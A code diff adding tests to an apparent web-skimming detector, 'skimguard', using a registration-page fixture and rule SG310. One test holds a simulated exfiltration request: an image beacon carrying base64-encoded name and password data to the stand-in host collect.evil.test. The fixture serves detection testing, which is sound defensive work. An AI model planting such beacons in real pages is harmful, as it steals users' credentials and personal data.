@@ -10,6 +10,9 @@ from skimguard.testing.factories import (
     cart_page,
     make_capture,
     make_context,
+    make_field,
+    make_form,
+    make_page,
     make_request,
     payment_page,
 )
@@ -104,3 +107,40 @@ def test_known_outside_host_that_now_receives_data() -> None:
     findings = run(with_requests(get, post), baseline=with_requests(get))
     assert brief(findings) == [("SG311", "medium", "payment", "stats.vendor.test")]
     assert findings[0].evidence["baseline_methods"] == ["GET"]
+
+
+# --- pages with personal-data fields (registration): founding incident 2, second page -----------
+
+
+def registration(*extra: RequestRecord) -> Capture:
+    url = "http://shop.test/member/register"
+    form = make_form(
+        url,
+        fields=(
+            make_field("reg_email", type="email"),
+            make_field("reg_password", type="password"),
+            make_field("reg_phone", type="tel"),
+        ),
+        id="register",
+        frame_url=url,
+    )
+    page = make_page("register", url=url, scripts=(), forms=(form,), extra_requests=extra)
+    return make_capture([page])
+
+
+def test_personal_data_page_beacon_to_outside_host_is_high() -> None:
+    # ruleid: SG310 — the registration page sends name, address, password out in an image URL
+    beacon = make_request("http://collect.evil.test/r.gif?q=" + "eyJuYW1lIjoiVGFybyIsInBhc3N3b3JkIjoi" * 3,
+                          resource_type="image", initiator="http://shop.test/member/register")
+    findings = run(registration(beacon), baseline=registration())
+    assert brief(findings) == [("SG310", "high", "register", "collect.evil.test")]
+    assert findings[0].title.startswith("Page with personal-data fields sends requests to a new host")
+
+
+def test_page_without_sensitive_fields_is_not_compared() -> None:
+    # ok: SG310 — a plain content page may add hosts (covered by the script rules)
+    beacon = make_request("http://collect.evil.test/r.gif?q=" + "x" * 100, resource_type="image")
+    plain = make_capture([make_page("about", url="http://shop.test/about", scripts=(), forms=())])
+    with_beacon = make_capture([make_page("about", url="http://shop.test/about", scripts=(), forms=(),
+                                          extra_requests=(beacon,))])
+    assert run(with_beacon, baseline=plain) == []
